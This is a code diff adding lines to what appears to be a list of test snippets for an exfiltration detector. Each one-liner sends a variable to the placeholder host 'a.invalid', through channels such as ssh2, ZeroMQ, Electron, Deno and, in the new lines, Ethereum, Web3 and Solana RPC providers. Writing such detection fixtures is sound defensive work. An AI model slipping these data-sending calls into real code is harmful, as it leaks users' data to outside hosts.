@@ -44,6 +44,10 @@ const { Client } = require('ssh2'); const c = new Client(); c.on('ready', () => 
 const Pusher = require('pusher'); new Pusher({}).trigger('a', 'b', { s });
 const zmq = require('zeromq'); const k = new zmq.Push(); k.connect('tcp://a.invalid:1'); k.send(s);
 const { net } = require('electron'); const r = net.request({ method: 'POST', url: 'https://a.invalid' }); r.write(s); r.end();
+const { JsonRpcProvider } = require('ethers'); new JsonRpcProvider('https://a.invalid').send('eth_call', [{ data: s }]);
+const { ethers } = require('ethers'); new ethers.providers.StaticJsonRpcProvider('https://a.invalid').sendTransaction(s);
+const Web3 = require('web3'); new Web3('https://a.invalid').eth.sendSignedTransaction(s);
+const { Connection } = require('@solana/web3.js'); const c = new Connection('https://a.invalid'); c.sendRawTransaction(s);
 Deno.connect({ hostname: 'a.invalid', port: 1 }).then(k => k.write(new TextEncoder().encode(s)));
 `;
 
